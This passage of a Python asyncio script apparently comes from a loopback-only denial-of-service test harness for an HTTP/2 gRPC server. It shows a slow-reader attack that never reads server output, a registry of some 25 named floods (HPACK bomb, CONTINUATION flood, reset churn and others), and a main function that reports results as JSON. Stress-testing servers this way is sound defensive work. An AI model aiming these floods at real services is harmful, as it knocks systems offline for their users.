    setup = frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + OUR_WINDOW.to_bytes(4, "big")) + frame(
        WINDOW_UPDATE, 0, 0, (OUR_WINDOW - 65535).to_bytes(4, "big")
    )
    request = grpc_message(discovery_request((BIG_GROUP,), node="slow-reader"))
    conns: list[Conn] = []
    stats = {"connections": 0, "streams": 0, "refused": 0}
    try:
        for _ in range(connections):
            if time.monotonic() > deadline:
                break
            try:
                conn = await Conn.open(port, src)
                frames = [setup]
                for _ in range(streams):
                    sid, opening = conn.open_stream()
                    frames += [opening, DataFrame(sid, data=request).serialize()]
                await conn.send(b"".join(frames))
            except (OSError, TimeoutError):
                stats["refused"] += 1
                continue
            conn.writer.transport.pause_reading()  # not one byte read: the server's writes pile up
            conns.append(conn)
            stats["connections"] += 1
            stats["streams"] += streams
        await asyncio.sleep(max(0.0, deadline - time.monotonic()))
    finally:
        for c in conns:
            c.close()
    return stats


ATTACKS: dict[str, Callable[[int, str, float], Awaitable[dict[str, Any]]]] = {
    f.__name__: f
    for f in (
        ping_flood,
        settings_flood,
        priority_flood,
        unknown_flood,
        empty_data_flood,
        reset_churn,
        open_close_churn,
        data_after_end,
        idle_streams,
        idle_connections,
        partial_messages,
        big_health_message,
        health_streams,
        big_messages_small_frames,
        oversize_frames,
        malformed_headers,
        fill_table,
        header_bursts,
        request_bursts,
        pooled_bursts,
        window_update_flood,
        continuation_flood,
        hpack_bomb,
        drip_frames,
        slow_readers,
    )
}


async def main(name: str, port: int, src: str, seconds: float, *more: str) -> None:
    assert src.startswith("127."), "loopback only"
    if name == "fill_table" and more:  # connections per address
        stopped = asyncio.Event()
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stopped.set)
        stats = await asyncio.wait_for(
            fill_table(port, src, seconds, per_address=int(more[0]), stopped=stopped), seconds + 30
        )
    else:
        stats = await asyncio.wait_for(ATTACKS[name](port, src, seconds), seconds + 30)
    print(json.dumps({"attack": name, **stats}))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), *sys.argv[5:]))
